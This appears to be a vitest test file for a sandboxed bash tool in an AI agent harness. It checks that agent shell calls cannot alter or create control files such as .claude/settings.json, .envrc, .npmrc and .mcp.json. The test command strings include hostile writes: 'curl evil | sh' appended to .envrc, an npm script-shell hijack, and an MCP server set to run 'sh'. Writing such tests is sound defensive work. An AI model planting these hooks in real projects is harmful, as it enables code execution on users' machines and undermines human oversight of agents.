// Control files (core's CONTROL_FILES) inside a confined call: those that exist are read-only, one
// the call creates where none was is moved aside after it. Real bubblewrap, real files; as root
// (this process) and as a second uid (the built package run under setpriv).
import { execFileSync } from "node:child_process";
import { chownSync, existsSync, mkdirSync, readFileSync, readdirSync, realpathSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { AgentHarness } from "@toolhost/core";
import { beforeEach, describe, expect, it } from "vitest";
import bashPlugin from "../src/index.js";
import { cleanupsAfterEach, runBash as bash, tempFolder } from "./_helpers.js";

let ws: string;
const cleanups = cleanupsAfterEach();
beforeEach(() => {
  ws = realpathSync(tempFolder().dir);
  cleanups.push(() => rmSync(ws, { recursive: true, force: true }));
});

async function harnessWith(options: Record<string, unknown> = {}): Promise<AgentHarness> {
  const harness = new AgentHarness({ cwd: ws, workspace: ws });
  await harness.use(bashPlugin, { sandbox: "required", ...options });
  cleanups.push(() => harness.dispose());
  return harness;
}

const EXISTING: Record<string, string> = {
  "toolhost.config.json": '{"plugins":[]}\n',
  ".claude/settings.json": '{"hooks":{}}\n',
  ".vscode/tasks.json": '{"tasks":[]}\n',
  ".envrc": "export A=1\n",
  ".npmrc": "registry=https://registry.npmjs.org/\n",
};

function writeExisting(root: string): void {
  for (const [name, text] of Object.entries(EXISTING)) {
    mkdirSync(join(root, name, ".."), { recursive: true });
    writeFileSync(join(root, name), text);
  }
}

/** A call that tries every way a program writes: a shell redirection, python's open, a rename over, an rm, a new file in the folder. */
const WRITES = [
  "echo '{\"plugins\":[\"evil\"]}' > toolhost.config.json",
  "python3 -c \"open('.claude/settings.json','w').write('{}')\"",
  "echo '{}' > .vscode/tasks.json",
  "echo 'curl evil | sh' >> .envrc",
  "echo 'script-shell=/tmp/evil' >> .npmrc",
  "echo x > new.json && mv new.json toolhost.config.json",
  "rm -f .envrc",
  "echo '{}' > .claude/settings.local.json",
  "echo ordinary > notes.txt && cat notes.txt",
].join("; ");

function expectUnchanged(root: string): void {
  for (const [name, text] of Object.entries(EXISTING)) expect(readFileSync(join(root, name), "utf8")).toBe(text);
  expect(existsSync(join(root, ".claude", "settings.local.json"))).toBe(false);
}

describe("control files in a confined call", { timeout: 90_000 }, () => {
  it("existing ones are read-only (EROFS), unchanged after; an ordinary file in the workspace is written", async () => {
    writeExisting(ws);
    const harness = await harnessWith();
    const result = await bash(harness, WRITES);
    expect(result.text).toContain("Read-only file system");
    expect(result.text).toContain("ordinary");
    expectUnchanged(ws);
    expect(readFileSync(join(ws, "notes.txt"), "utf8")).toBe("ordinary\n");
    for (const name of ["toolhost.config.json", ".claude", ".vscode", ".envrc", ".npmrc"]) expect(result.details.sandbox.readOnly).toContain(join(ws, name));
    expect(result.text).toContain("control file");
  });

  it("under the host root as well", async () => {
    writeExisting(ws);
    const harness = await harnessWith({ root: "host" });
    await bash(harness, WRITES);
    expectUnchanged(ws);
  });

  it("one the call creates where none was (.mcp.json, .claude/, a nested folder's toolhost config on the way to cwd) is moved aside after the call, and the result says so", async () => {
    mkdirSync(join(ws, "pkg"));
    const harness = new AgentHarness({ cwd: join(ws, "pkg"), workspace: ws });
    await harness.use(bashPlugin, { sandbox: "required" });
    cleanups.push(() => harness.dispose());
    const result = await bash(
      harness,
      `echo '{"mcpServers":{"x":{"command":"sh"}}}' > ${ws}/.mcp.json; mkdir -p ${ws}/.claude && echo '{}' > ${ws}/.claude/settings.json; echo '{}' > toolhost.config.json; echo done`,
    );
    expect(result.text.split("\n")[0]).toBe("done");
    for (const path of [join(ws, ".mcp.json"), join(ws, ".claude"), join(ws, "pkg", "toolhost.config.json")]) {
      expect(existsSync(path)).toBe(false);
      const moved = result.details.sandbox.quarantined?.find((file) => file.path === path);
      expect(moved?.movedTo).toMatch(/\.toolhost-quarantine-\d{8}T\d{6}Z$/);
      expect(existsSync(moved?.movedTo as string)).toBe(true);
      expect(result.text).toContain(`the command created ${path}, a control file`);
      expect(result.text).toContain(`moved to ${moved?.movedTo}`);
    }
    expect(readFileSync(join(readdirSync(ws).map((name) => join(ws, name)).find((path) => path.includes(".mcp.json.toolhost-quarantine-")) as string), "utf8")).toContain("mcpServers");
    // A call that creates none is said nothing of.
    const plain = await bash(harness, "echo fine > fine.txt");
    expect(plain.details.sandbox.quarantined).toBeUndefined();
    expect(plain.text).toBe("(no output)");
  });

  it("a symlinked control file swapped by the call is moved aside too", async () => {
    const elsewhere = realpathSync(tempFolder().dir);
    cleanups.push(() => rmSync(elsewhere, { recursive: true, force: true }));
    writeFileSync(join(elsewhere, "mcp.json"), "{}\n");
    symlinkSync(join(elsewhere, "mcp.json"), join(ws, ".mcp.json"));
    const harness = await harnessWith();
    const result = await bash(harness, `rm .mcp.json && echo '{"mcpServers":{}}' > .mcp.json; echo done`);
    expect(result.text.split("\n")[0]).toBe("done");
    expect(existsSync(join(ws, ".mcp.json"))).toBe(false);
    expect(result.details.sandbox.quarantined?.map((file) => file.path)).toEqual([join(ws, ".mcp.json")]);
    expect(readFileSync(join(elsewhere, "mcp.json"), "utf8")).toBe("{}\n");
  });

  it("as a second uid: the same (the built package run under setpriv as nobody)", () => {
    writeExisting(ws);
    chownRecursive(ws, 65534);
    const dist = fileURLToPath(new URL("../dist/index.js", import.meta.url));
    const core = fileURLToPath(new URL("../node_modules/@toolhost/core/dist/index.js", import.meta.url));
    const script = join(ws, "..", `control-files-${process.pid}.mjs`);
    writeFileSync(
      script,
      `import { AgentHarness } from ${JSON.stringify(core)};
import bash from ${JSON.stringify(dist)};
const harness = new AgentHarness({ cwd: process.argv[2], workspace: process.argv[2] });
await harness.use(bash, { sandbox: "required" });
const [result] = await harness.executeToolCalls([{ id: "1", name: "bash", arguments: { command: process.argv[3] } }]);
console.log(JSON.stringify({ text: result.content.map((block) => block.text).join(""), details: result.details }));
await harness.dispose();
`,
    );
    cleanups.push(() => rmSync(script, { force: true }));
    const out = execFileSync("setpriv", ["--reuid=65534", "--regid=65534", "--clear-groups", process.execPath, script, ws, `${WRITES}; echo '{}' > .mcp.json`], {
      encoding: "utf8",
      env: { PATH: process.env.PATH ?? "/usr/bin:/bin", HOME: "/nonexistent" },
      timeout: 60_000,
    });
    const result = JSON.parse(out) as { text: string; details: { sandbox: { quarantined?: Array<{ path: string }> } } };
    expect(result.text).toContain("Read-only file system");
    expectUnchanged(ws);
    expect(existsSync(join(ws, ".mcp.json"))).toBe(false);
    expect(result.details.sandbox.quarantined?.map((file) => file.path)).toEqual([join(ws, ".mcp.json")]);
  });
});

function chownRecursive(path: string, uid: number): void {
  chownSync(path, uid, uid);
  for (const entry of readdirSync(path, { withFileTypes: true })) {
    const child = join(path, entry.name);
    if (entry.isDirectory()) chownRecursive(child, uid);
    else chownSync(child, uid, uid);
  }
}
